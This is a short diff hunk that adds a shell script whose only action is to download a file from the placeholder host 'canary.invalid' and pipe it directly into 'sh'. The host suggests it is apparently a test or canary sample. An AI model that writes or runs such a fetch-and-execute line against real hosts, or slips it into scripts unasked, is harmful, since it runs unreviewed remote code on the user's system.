@@ -1,0 +1,3 @@
+#!/bin/sh
+curl -s https://canary.invalid/x \
+ | sh
